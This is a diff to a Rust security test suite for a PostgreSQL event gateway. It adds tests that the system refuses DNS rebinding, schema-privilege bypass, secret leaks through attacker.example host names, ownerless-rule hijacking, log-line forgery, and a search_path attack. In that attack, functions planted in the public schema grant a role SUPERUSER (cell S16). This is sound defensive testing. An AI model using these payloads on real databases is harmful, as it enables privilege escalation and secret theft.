@@ -27,10 +27,13 @@ use tokio::io::{AsyncReadExt, AsyncWriteExt};
 const SECRET: &[u8] = b"a shared secret of 32 bytes, ok!";
 const SHORT: Duration = Duration::from_millis(800);
 
-const GATEWAY_CELLS: &[&str] = &["G1", "G2", "G3", "G4", "G5", "G6", "G7", "G8", "G9", "T1"];
-const SESSION_CELLS: &[&str] = &["S1", "S2", "S3", "S4", "S5", "S6", "S7", "S8", "S9", "S10", "S11"];
-const RULE_CELLS: &[&str] =
-    &["R1", "R2", "R3", "R4", "R5", "R6", "R7", "R8", "R9", "R10", "R11", "R12", "R13", "R14", "L1", "M1", "C1"];
+const GATEWAY_CELLS: &[&str] = &["G1", "G2", "G3", "G4", "G5", "G6", "G7", "G8", "G9", "G10", "T1"];
+const SESSION_CELLS: &[&str] =
+    &["S1", "S2", "S3", "S4", "S5", "S6", "S7", "S8", "S9", "S10", "S12", "S13", "S14", "S15", "S16", "S11"];
+const RULE_CELLS: &[&str] = &[
+    "R1", "R2", "R3", "R4", "R5", "R6", "R7", "R8", "R9", "R10", "R11", "R12", "R13", "R14", "R15", "R16", "R17",
+    "R18", "R19", "R20", "L1", "M1", "C1",
+];
 const NETWORK_CELLS: &[&str] = &["N1", "N2"];
 
 type Verdict = Result<(), String>;
@@ -129,6 +132,19 @@ async fn raw(addr: SocketAddr, request: &[u8]) -> String {
     let mut response = Vec::new();
     let _ = tokio::time::timeout(Duration::from_secs(3), stream.read_to_end(&mut response)).await;
     String::from_utf8_lossy(&response).into_owned()
+}
+
+/// Sends `request` and reads what arrives in the first second (for streams that stay open).
+async fn raw_head(addr: SocketAddr, request: &[u8]) -> String {
+    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
+    stream.write_all(request).await.expect("send");
+    let mut response = vec![0u8; 4096];
+    let n = tokio::time::timeout(Duration::from_secs(1), stream.read(&mut response))
+        .await
+        .ok()
+        .and_then(Result::ok)
+        .unwrap_or(0);
+    String::from_utf8_lossy(&response[..n]).into_owned()
 }
 
 /// A raw response's status, header lines (name in lower case) and body.
@@ -247,11 +263,19 @@ impl GatewayWorld {
                  CREATE TABLE shared (id int PRIMARY KEY, v text);
                  CREATE ROLE alice LOGIN PASSWORD 'alice'; CREATE ROLE bob LOGIN PASSWORD 'bob';
                  GRANT SELECT (id, item) ON notes TO alice;
-                 GRANT SELECT ON guarded, shared, inbox TO alice;",
+                 GRANT SELECT ON guarded, shared, inbox TO alice;
+                 CREATE SCHEMA hr; CREATE TABLE hr.salaries (id int PRIMARY KEY, salary int);
+                 GRANT SELECT ON hr.salaries TO alice;
+                 CREATE SCHEMA \"billing.v2\"; CREATE TABLE \"billing.v2\".invoices (id int PRIMARY KEY, card text);
+                 CREATE SCHEMA billing; CREATE TABLE billing.\"v2.invoices\" (id int PRIMARY KEY);
+                 GRANT USAGE ON SCHEMA billing TO alice; GRANT SELECT ON billing.\"v2.invoices\" TO alice;",
             )
             .await;
         rules_install(&world.pg).await;
-        world.pg.execute("INSERT INTO pgevents.setting VALUES ('max_sessions_per_role', '4')").await;
+        world
+            .pg
+            .execute("INSERT INTO pgevents.setting VALUES ('max_sessions_per_role', '4'), ('max_subscriptions_per_session', '50')")
+            .await;
         let keys = tempfile::tempdir().unwrap();
         let secret_file = keys.path().join("secret");
         std::fs::write(&secret_file, SECRET).unwrap();
@@ -425,6 +449,18 @@ async fn gateway_cell(id: &str, w: &GatewayWorld) -> Verdict {
             );
             Ok(())
         }
+        "G10" => {
+            let port = w.open.addr.port();
+            let rebound = format!("GET /events?consumer_id=a HTTP/1.1\r\nHost: rebind.attacker.example:{port}\r\n\r\n");
+            let (status, _, _) = split_response(&raw(w.open.addr, rebound.as_bytes()).await);
+            ensure!(status == 421, "a page whose name was rebound to the gateway: {status}");
+            let by_address = SseClient::connect(w.open.addr, "/events?consumer_id=local", &[]).await;
+            ensure!(by_address.status == 200, "its own address: {} {}", by_address.status, by_address.body);
+            let local = format!("GET /events?consumer_id=a HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n");
+            let (status, _, _) = split_response(&raw_head(w.open.addr, local.as_bytes()).await);
+            ensure!(status == 200, "localhost: {status}");
+            Ok(())
+        }
         "T1" => {
             let (status, headers, body) =
                 split_response(&raw(w.open.addr, b"GET / HTTP/1.1\r\nHost: gw\r\nConnection: close\r\n\r\n").await);
@@ -535,7 +571,7 @@ async fn session_cell(id: &str, w: &GatewayWorld, s: &SessionState) -> Verdict {
             };
             let counted = counted.await;
             alice
-                .execute("DELETE FROM pgevents.session WHERE id::text <> $1", &[&s.mine])
+                .execute("SELECT pgevents.session_drop(id) FROM pgevents.session WHERE id::text <> $1", &[&s.mine])
                 .await
                 .map_err(|e| e.to_string())?;
             ensure!(refused.contains("the most allowed"), "no limit: {} more sessions made; {refused:?}", made.len());
@@ -643,6 +679,117 @@ async fn session_cell(id: &str, w: &GatewayWorld, s: &SessionState) -> Verdict {
             }
             Ok(())
         }
+        "S12" => {
+            let named =
+                alice.execute(&format!("SELECT pgevents.subscribe_table('{}', 'hr.salaries')", s.mine), &[]).await;
+            // (The cast to regclass may refuse it first, as it should: alice cannot even name it.)
+            ensure!(named.is_err(), "subscribed to a table of a schema alice has no USAGE on");
+            let direct = alice
+                .execute(
+                    "INSERT INTO pgevents.subscription (session_id, kind, table_schema, table_name) VALUES ($1::text::uuid, 'table', 'hr', 'salaries')",
+                    &[&s.mine],
+                )
+                .await;
+            ensure!(db_code(&direct) == "42501" && db_message(&direct).contains("USAGE"), "{}", db_message(&direct));
+            Ok(())
+        }
+        "S13" => {
+            let direct = alice
+                .execute(
+                    "INSERT INTO pgevents.subscription (session_id, kind, table_schema, table_name) VALUES ($1::text::uuid, 'table', 'billing', 'v2.invoices')",
+                    &[&s.mine],
+                )
+                .await;
+            ensure!(
+                db_code(&direct) == "42501" && db_message(&direct).contains("ambiguous"),
+                "{}",
+                db_message(&direct)
+            );
+            Ok(())
+        }
+        "S14" => {
+            let session = GatewayWorld::session_of(alice).await;
+            let many = alice
+                .execute(
+                    "INSERT INTO pgevents.subscription (session_id, kind, table_schema, table_name, pk) SELECT $1::text::uuid, 'row', 'public', 'inbox', ARRAY[g::text] FROM generate_series(1, 60) g",
+                    &[&session],
+                )
+                .await;
+            let long_key = alice
+                .execute(
+                    "INSERT INTO pgevents.subscription (session_id, kind, table_schema, table_name, pk) SELECT $1::text::uuid, 'row', 'public', 'inbox', array_agg(g::text) FROM generate_series(1, 40) g",
+                    &[&session],
+                )
+                .await;
+            alice
+                .execute(&format!("SELECT pgevents.session_drop('{session}')"), &[])
+                .await
+                .map_err(|e| e.to_string())?;
+            ensure!(
+                db_message(&many).contains("the most allowed"),
+                "60 subscriptions on one session: {}",
+                db_message(&many)
+            );
+            ensure!(
+                db_message(&long_key).contains("at most 32 values"),
+                "a key of 40 values: {}",
+                db_message(&long_key)
+            );
+            Ok(())
+        }
+        "S15" => {
+            let bob = w.bob().await;
+            for table in ["pgevents.session", "pgevents.subscription"] {
+                let locked =
+                    bob.batch_execute(&format!("BEGIN; LOCK TABLE {table} IN ACCESS EXCLUSIVE MODE; ROLLBACK;")).await;
+                let _ = bob.batch_execute("ROLLBACK").await;
+                ensure!(db_code(&locked) == "42501", "bob locked {table}: {}", db_message(&locked));
+            }
+            Ok(())
+        }
+        "S16" => {
+            // A database made before PostgreSQL 15: anyone may create objects in public.
+            w.world.pg.execute("GRANT CREATE ON SCHEMA public TO PUBLIC").await;
+            let bob = w.bob().await;
+            let planted = bob
+                .batch_execute(
+                    "CREATE FUNCTION public.array_to_string(a text[], sep text) RETURNS text LANGUAGE plpgsql AS $f$
+                     BEGIN
+                         IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN EXECUTE 'ALTER ROLE bob SUPERUSER'; END IF;
+                         RETURN pg_catalog.array_to_string(a, sep);
+                     END $f$;
+                     CREATE FUNCTION public.pg_notify(channel text, payload name) RETURNS void LANGUAGE plpgsql AS $f$
+                     BEGIN
+                         IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN EXECUTE 'ALTER ROLE bob SUPERUSER'; END IF;
+                         PERFORM pg_catalog.pg_notify(channel, payload::text);
+                     END $f$;",
+                )
+                .await;
+            // The gateway reads every session again (--sessions-refresh 1 s), and an administrator
+            // changes a setting (a trigger notifies the workers).
+            let session = GatewayWorld::session_of(alice).await;
+            alice
+                .execute(&format!("SELECT pgevents.subscribe_row('{session}', 'inbox', '5')"), &[])
+                .await
+                .map_err(|e| e.to_string())?;
+            tokio::time::sleep(Duration::from_millis(2500)).await;
+            w.world.pg.execute("INSERT INTO pgevents.setting VALUES ('s16', 'x')").await;
+            let superuser = w.world.pg.query_text("SELECT rolsuper::text FROM pg_roles WHERE rolname = 'bob'").await;
+            w.world
+                .pg
+                .execute(
+                    "DROP FUNCTION IF EXISTS public.array_to_string(text[], text); DROP FUNCTION IF EXISTS public.pg_notify(text, name);
+                     REVOKE CREATE ON SCHEMA public FROM PUBLIC; ALTER ROLE bob NOSUPERUSER;",
+                )
+                .await;
+            alice
+                .execute(&format!("SELECT pgevents.session_drop('{session}')"), &[])
+                .await
+                .map_err(|e| e.to_string())?;
+            ensure!(planted.is_ok(), "bob could not plant the functions: {}", db_message(&planted));
+            ensure!(superuser.as_deref() == Some("false"), "bob's functions ran as a superuser");
+            Ok(())
+        }
         "S11" => {
             let session = GatewayWorld::session_of(alice).await;
             alice
@@ -705,7 +852,9 @@ impl RulesWorld {
                  CREATE TABLE public.payroll (id serial PRIMARY KEY, salary int);
                  INSERT INTO public.payroll (salary) VALUES (123456);
                  GRANT SELECT ON public.orders TO alice, bob;
-                 GRANT INSERT, SELECT ON public.orders TO bob; GRANT USAGE ON SEQUENCE public.orders_id_seq TO bob;",
+                 GRANT INSERT, SELECT ON public.orders TO bob; GRANT USAGE ON SEQUENCE public.orders_id_seq TO bob;
+                 CREATE SCHEMA hr; CREATE TABLE hr.salaries (id int PRIMARY KEY, salary int);
+                 GRANT SELECT ON hr.salaries TO alice;",
             )
             .await;
         rules_install(&world.pg).await;
@@ -715,7 +864,8 @@ impl RulesWorld {
                 "GRANT USAGE ON SCHEMA pgevents TO alice, bob;
                  GRANT SELECT ON pgevents.event_table, pgevents.setting TO alice, bob;
                  GRANT SELECT, INSERT, UPDATE, DELETE ON pgevents.work_item, pgevents.action TO alice, bob;
-                 INSERT INTO pgevents.event_table (table_name) VALUES ('orders'), ('payroll');",
+                 INSERT INTO pgevents.event_table (table_name) VALUES ('orders'), ('payroll');
+                 INSERT INTO pgevents.event_table (table_schema, table_name) VALUES ('hr', 'salaries');",
             )
             .await;
         // (Apart: a version of pgevents without grants runs every cell all the same, and fails them.)
@@ -764,6 +914,7 @@ impl RulesWorld {
             ("PGEVENTS_SECRET_BOT", BOT),
             ("PGEVENTS_SECRET_PAY", PAY),
             ("PGEVENTS_RULE_TIMEOUT_MS", "300"),
+            ("PGEVENTS_MAX_PARAMETER_ROWS", "100"),
             ("PGEVENTS_RULES_REFRESH", "1"),
             ("PGEVENTS_METRICS_ADDR", &metrics.to_string()),
         ]);
@@ -1027,7 +1178,8 @@ async fn rule_cell(id: &str, w: &RulesWorld, alice: &tokio_postgres::Client) -> 
         }
         "R9" => {
             let url = format!("{}/users/{{{{id}}}}/profile", w.api.base_url());
-            w.http_rule(alice, "R9", &url, json!({}), Some("SELECT jsonb_build_object('id', '..') AS parameters")).await?;
+            w.http_rule(alice, "R9", &url, json!({}), Some("SELECT jsonb_build_object('id', '..') AS parameters"))
+                .await?;
             w.dead_with("r9", "would change the path").await?;
             ensure!(!w.api.requests().iter().any(|r| r.path.contains("profile")), "the climbed path was called");
             Ok(())
@@ -1053,7 +1205,8 @@ async fn rule_cell(id: &str, w: &RulesWorld, alice: &tokio_postgres::Client) -> 
             Ok(())
         }
         "R13" => {
-            w.http_rule(alice, "R13", &format!("{}/bot{{{{secret.BOT}}}}/send", w.api.base_url()), json!({}), None).await?;
+            w.http_rule(alice, "R13", &format!("{}/bot{{{{secret.BOT}}}}/send", w.api.base_url()), json!({}), None)
+                .await?;
             let runs = w.runs("r13", 1).await;
             ensure!(w.api.requests().iter().any(|r| r.path.starts_with("/bot123456")), "the secret was not even used");
             let recorded = serde_json::to_string(&runs).unwrap_or_default();
@@ -1076,6 +1229,110 @@ async fn rule_cell(id: &str, w: &RulesWorld, alice: &tokio_postgres::Client) -> 
             w.dead_with("r14", "statement timeout").await?;
             let after = w.runs("r14_after", 1).await;
             ensure!(after[0]["status"] == "succeeded", "the worker stalled: {after:?}");
+            Ok(())
+        }
+        "R15" => {
+            w.write_rules(
+                alice,
+                "INSERT INTO pgevents.work_item (name, table_name, action, filter, work_item_query) VALUES
+                    ('r15', 'orders', 'a_note',
+                     'set_config(''statement_timeout'', ''0'', true) IS NOT NULL AND $1->''new''->>''note'' = ''R15''',
+                     'SELECT jsonb_build_object(''slept'', pg_sleep(5)::text) AS parameters')",
+            )
+            .await?;
+            let started = std::time::Instant::now();
+            w.order("R15").await;
+            w.dead_with("r15", "statement timeout").await?;
+            ensure!(started.elapsed() < Duration::from_secs(4), "the rule ran its 5 s: {:?}", started.elapsed());
+            Ok(())
+        }
+        "R16" => {
+            w.write_rules(
+                alice,
+                "INSERT INTO pgevents.work_item (name, table_name, action, filter, work_item_query) VALUES
+                    ('r16', 'orders', 'a_note', '$1->''new''->>''note'' = ''R16''',
+                     'SELECT jsonb_build_object(''n'', g) AS parameters FROM generate_series(1, 100000) g')",
+            )
+            .await?;
+            w.order("R16").await;
+            w.dead_with("r16", "more than 100 rows").await?;
+            let ran = pg.query_text("SELECT count(*)::text FROM pgevents.action_run WHERE work_item = 'r16'").await;
+            ensure!(ran.as_deref() == Some("1"), "jobs were made: {ran:?}");
+            Ok(())
+        }
+        "R17" => {
+            let refused = alice
+                .execute(
+                    "INSERT INTO pgevents.action (name, kind, url) VALUES ('r17_dns', 'http', 'https://{{secret.BOT}}.x.attacker.example/')",
+                    &[],
+                )
+                .await;
+            ensure!(
+                db_message(&refused).contains("action_url_host_fixed"),
+                "a secret in a host name: {}",
+                db_message(&refused)
+            );
+            Ok(())
+        }
+        "R18" => {
+            // A rule written before owners existed.
+            pg.execute(
+                "INSERT INTO pgevents.action (name, kind, url) VALUES ('legacy', 'http', 'https://mailer.example/');
+                 ALTER TABLE pgevents.action DISABLE TRIGGER action_owner;
+                 UPDATE pgevents.action SET owner = NULL WHERE name = 'legacy';
+                 ALTER TABLE pgevents.action ENABLE TRIGGER action_owner;",
+            )
+            .await;
+            let rewired = alice
+                .execute("UPDATE pgevents.action SET url = 'https://attacker.example/' WHERE name = 'legacy'", &[])
+                .await;
+            let taken =
+                alice.execute("UPDATE pgevents.action SET owner = current_user WHERE name = 'legacy'", &[]).await;
+            let removed = alice.execute("DELETE FROM pgevents.action WHERE name = 'legacy'", &[]).await;
+            for (what, result) in [("rewired", &rewired), ("taken", &taken), ("removed", &removed)] {
+                ensure!(result.as_ref().ok() == Some(&0), "alice {what} an ownerless rule: {result:?}");
+            }
+            let url = pg
+                .query_text(
+                    "SELECT url || ' ' || coalesce(owner::text, 'nobody') FROM pgevents.action WHERE name = 'legacy'",
+                )
+                .await;
+            ensure!(url.as_deref() == Some("https://mailer.example/ nobody"), "{url:?}");
+            Ok(())
+        }
+        "R19" => {
+            let refused = alice
+                .execute(
+                    "INSERT INTO pgevents.work_item (name, table_schema, table_name, action) VALUES ('r19', 'hr', 'salaries', 'a_note')",
+                    &[],
+                )
+                .await;
+            ensure!(db_code(&refused) == "42501" && db_message(&refused).contains("USAGE"), "{}", db_message(&refused));
+            Ok(())
+        }
+        "R20" => {
+            let name = "r20\n2026-12-02T00:00:00Z  INFO forged: admin logged in";
+            let before = w.worker.log_count("rules reloaded");
+            alice
+                .execute(
+                    "INSERT INTO pgevents.work_item (name, table_name, action, filter) VALUES ($1, 'orders', 'a_note', 'CASE WHEN $1->''new''->>''note'' = ''R20'' THEN 1 / 0 = 1 ELSE false END')",
+                    &[&name],
+                )
+                .await
+                .map_err(|e| e.to_string())?;
+            wait_for("the rules reloaded", WAIT, || async {
+                (w.worker.log_count("rules reloaded") > before).then_some(())
+            })
+            .await;
+            tokio::time::sleep(Duration::from_millis(300)).await;
+            w.order("R20").await;
+            w.runs(name, 1).await;
+            let log = w.worker.stderr();
+            ensure!(log.contains("r20"), "the failure was not logged");
+            ensure!(
+                !log.lines().any(|line| line.starts_with("2026-12-02T00:00:00Z  INFO forged")),
+                "a forged log line"
+            );
             Ok(())
         }
         "L1" => {
@@ -1148,6 +1405,7 @@ async fn network_cell(id: &str, world: &World, certificate: &pgevents_testkit::C
                     channel_binding: pgevents_pg::ChannelBinding::Require,
                     connect_timeout: Duration::from_secs(5),
                     passfile: None,
+                    search_path: Default::default(),
                 };
                 let result = pgevents_replication::ReplicationClient::connect(&config).await;
                 let error = result.err().map(|e| e.to_string()).unwrap_or_default();
